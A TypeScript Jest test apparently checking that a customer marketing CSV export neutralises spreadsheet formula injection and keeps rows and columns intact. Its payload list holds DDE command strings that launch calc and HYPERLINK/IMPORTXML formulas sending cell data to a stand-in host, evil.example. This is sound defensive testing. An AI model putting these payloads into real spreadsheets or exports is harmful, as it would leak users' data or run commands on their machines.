/** @jest-environment node */
import { buildMarketingExport, MARKETING_EXPORT_COLUMNS, type ExportableCustomer } from "@/lib/rules/customer-export";
import { recordTally } from "./support/tally";

// Issue 11 item 7: the marketing CSV export (built in the browser from customer data the business
// typed, or a customer typed on a form) is safe to open in a spreadsheet: no cell starts like a
// formula, and hostile quotes or line breaks never add or split a row or column.

const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", " =", "   +", "\u00a0-", "\u3000@", "\ufeff=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\"=", "'="];
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"Click")',
  "1+1",
  "SUM(1,2)*cmd|'/C calc'!A0",
  'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
  'a","b",=1+1,"',
  "x\r\n=1+1,=2+2",
];

/** Every hostile start glued to every payload: the values a text column might hold. */
const hostile = STARTS.flatMap((s) => PAYLOADS.map((p) => `${s}${p}`));

/** An RFC 4180 reader: fields separated by commas, rows by CRLF, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === "") quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  if (field !== "" || row.length) throw new Error("the file does not end with CRLF");
  return rows;
}

const DANGEROUS = /^(?:[\s\u00a0\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/;

function customer(i: number, text: string): ExportableCustomer {
  return {
    membershipNumber: text,
    name: text,
    firstName: text,
    lastName: text,
    email: text,
    phone: text,
    dateOfBirth: null,
    totalPoints: i,
    lifetimeSpent: "12.50",
    createdAt: "2026-01-02T10:00:00.000Z",
    lastVisit: null,
    marketingConsentEmail: true,
    marketingConsentSms: i % 2 === 0,
    sleepStatus: "active",
  };
}

it(`no cell of the export starts like a formula, for ${hostile.length} hostile values in every text column`, () => {
  const { csv, count } = buildMarketingExport(hostile.map((text, i) => customer(i, text)), new Date("2026-11-22T12:00:00Z"));
  const rows = parseCsv(csv);
  recordTally("webChecks", hostile.length);
  expect(count).toBe(hostile.length);
  // Quotes, commas and line breaks in values never add or split a row or a column.
  expect(rows).toHaveLength(hostile.length + 1);
  expect(rows.every((r) => r.length === MARKETING_EXPORT_COLUMNS.length)).toBe(true);
  const formulas = rows.slice(1).flatMap((r, i) => r.filter((cell) => DANGEROUS.test(cell)).map((cell) => `row ${i + 1}: ${JSON.stringify(cell)}`));
  expect(formulas).toEqual([]);
  // Nothing is lost: each hostile value comes back whole, after the neutralising quote.
  const changed = rows.slice(1).filter((r, i) => r[1] !== hostile[i] && r[1] !== `'${hostile[i]}`);
  expect(changed).toEqual([]);
});
